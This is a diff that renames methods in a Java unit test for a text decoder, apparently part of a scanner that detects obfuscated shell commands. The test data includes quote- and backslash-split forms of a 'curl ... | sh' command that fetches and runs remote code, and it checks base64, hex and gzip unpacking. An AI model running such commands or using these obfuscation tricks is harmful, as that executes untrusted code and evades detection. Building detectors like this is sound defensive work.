@@ -23,7 +23,7 @@ class TextDecoderTest {
     private final List<String> exceeded = new ArrayList<>();
 
     @Test
-    void seesThroughEncodings() throws IOException {
+    void decodesEncodings() throws IOException {
         assertThat(chain("echo " + base64(BAD))).containsExactly("base64");
         assertThat(chain("echo " + base64(BAD).replace("=", ""))).containsExactly("base64");
         assertThat(chain("X=" + HexFormat.of().formatHex(bytes(BAD)))).containsExactly("hex");
@@ -38,7 +38,7 @@ class TextDecoderTest {
     }
 
     @Test
-    void seesThroughQuotesAndOtherSplitting() {
+    void removesQuotesAndOtherSplitting() {
         for (String split : List.of(
                 "c'u'rl http://a.example/x | s\"h\"",
                 "c\\u\\rl http://a.example/x | s\\h",
@@ -50,12 +50,12 @@ class TextDecoderTest {
     }
 
     @Test
-    void goesThreeLevelsDeepAndNoDeeper() {
+    void decodesUpToThreeLevels() {
         assertThat(found(base64(base64(base64(base64(BAD)))))).isEmpty();
     }
 
     @Test
-    void takesNoNoiseForText() throws IOException {
+    void ignoresBinaryData() throws IOException {
         assertThat(
                         found(
                                 "sha256:9afe1c3fb618aa77b5b2f4c19966bd10e6ec28f7fe13490a68f44a2747d5920a /usr/local/share/doc/packages"))
@@ -68,7 +68,7 @@ class TextDecoderTest {
     }
 
     @Test
-    void unpacksNoBombs() throws IOException {
+    void limitsDecompressedSize() throws IOException {
         byte[] bomb = new byte[32 << 20];
         java.util.Arrays.fill(bomb, (byte) 'a');
         assertThat(found(base64(gzip(bomb)))).isEmpty();
@@ -79,7 +79,7 @@ class TextDecoderTest {
     }
 
     @Test
-    void bearsBrokenEncodings() throws IOException {
+    void acceptsInvalidEncodings() throws IOException {
         byte[] packed = gzip(bytes((BAD + "\n").repeat(100)));
         assertThat(found(base64(java.util.Arrays.copyOf(packed, packed.length - 9))))
                 .containsKey("CMD-001");
